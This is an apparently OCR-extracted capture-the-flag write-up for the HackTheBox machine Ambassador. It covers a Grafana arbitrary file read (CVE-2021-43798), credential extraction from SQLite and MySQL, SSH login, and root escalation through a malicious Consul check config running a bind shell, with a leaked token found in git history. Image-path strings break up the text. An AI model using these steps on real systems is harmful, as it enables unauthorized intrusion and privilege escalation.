HTB Ambassador

Ambassador is the medium difficulty hackthebox machine.


Runningnmap tells us that there is Grafana on port 3000 and MySQL on port 3306.

By doing a quick google search we can find out that it’s vulnerable to unauthorized arbitrary file read attack (CVE-2021-43798).

Machine break-in

Then we exploit thatvulerability to get grafana.db (see this or this as references).

As we can see, it’s the sqlite3 db:

$ file grafana.db
grafana.db: SQLite 3.x database, last written using SQLite version 3035004 <...>

Next, open it with the sqlite3 cli tool:

$ sqlite3
SQLite version 3.40.1 2022-12-28 14:03:47
Enter ".help" for usage hints.
Connected to a transient in-memory database.
Use ".open FILENAME" to reopen on a persistent database.sqlite> .open grafana.db
sqlite> .tables
dashboard_version           temp_user
data_source                 test_data
kv_store                    user

We remember that we saw an open MySQL port, so we should be particularly interested in the data_source table as it may contain some credentials. Expectedly, it really does:

sqlite> select * from data_source;

Next, log into MySQL:

$ mariadb -h -u grafana -p
Enter password:
Welcome to the MariaDB monitor.  Commands end with ; or \g.

MySQL [(none)]> show databases;
| Database           |
| grafana            |
| information_schema |
| mysql              || performance_schema |
| sys                |
| whackywidget       |
6 rows in set (0.075 sec)

There’s one database with an attractive name, let’s check it:

MySQL [mysql]> use whackywidget;
Reading table information for completion of table and column names
You can turn off this feature to get a quicker startup with -A

Database changed
MySQL [whackywidget]> show tables;
| Tables_in_whackywidget |
| users                  |
1 row in set (0.051 sec)

MySQL [whackywidget]> select * from users;
| user      | pass                                     |
| developer | <b64pass>                                |
1 row in set (0.068 sec)Looks like a base64 encoded string, why don’t we try to decode?

$ echo <b64pass> | base64 -d

And that’s the correct password of the developer user!

$ ssh developer@
developer@'s password:
Welcome to Ubuntu 20.04.5 LTS (GNU/Linux 5.4.0-126-generic x86_64)

The user flag is there, so we head for the root one.Privilege escalation

We can notice that we have write permissions on /etc/consul.d/config.d directory (via regular enumeration, e.g. find / -group developer 2>/dev/null | grep -v proc). Also, if we look at the running processes, we can notice that consul is started as /usr/bin/consul agent -config-dir=/etc/consul.d/config.d -config-file=/etc/consul.d/consul.hcl. A quick look at the Consul documentation tells us that any file in that directory with .json or .hcl suffix will be sourced by Consul.

Further exploration tells that we can write a check in json format that executes arbitrary local program. Let’s put a bind shell in /home/developer/ (don’t forget the shebang!) and put an appropriate check config to /etc/consul.d/config.d named e.g. bindshell.json. It may look like:

  "check": {
    "id":"bindshell",
    "name": "Bind Shell",
    "args": [
    "interval": "10s",
    "timeout": "600s"

(That’s not the only way, however: somewhat easier would be, for example, to place an SUID on bash.)

Ok, we’ve placed our malicious configuration. Now we need Consul to read it.

Expectedly, it requires an access token for operations such as reload. Where would we findone?

Well, in the home directory of developer there is .gitconfig, which suggests that /opt/my-app is a git repository:

$ cat .gitconfig
    name = Developer
    email = developer@ambassador.local
    directory = /opt/my-app

In /opt/my-app/whackywidget we can see the MySQL credentials deployment script that utilizes Consul. It lacks both Consul and MySQL credentials, however. Maybe there is something interesting about that in git history? And there is! The last commit removed thetoken from that script, so we can easily find it in diff with git show:

commit33a53ef9a207976d5ceceddc41a199558843bf3c(HEAD -> main)
Author: Developer <developer@ambassador.local>
Date:   Sun Mar 13 23:47:36 2022 +0000

    tidy config script

diff --git a/whackywidget/ b/whackywidget/
index 35c08f6..fc51ec0 100755
--- a/whackywidget/
+++ b/whackywidget/
@@ -1,4 +1,4 @@
 # We use Consul for application config in production, this script will help set the correct values for the app
-# Export MYSQL_PASSWORD before running
+# Export MYSQL_PASSWORD and CONSUL_HTTP_TOKEN before running
-consul kv put --token <token> whackywidget/db/mysql_pw $MYSQL_PASSWORD
+consul kv put whackywidget/db/mysql_pw $MYSQL_PASSWORD

Now running consul reload -token=<token> should be enough to make our bindshell appear.

Subsequentactions are trivial.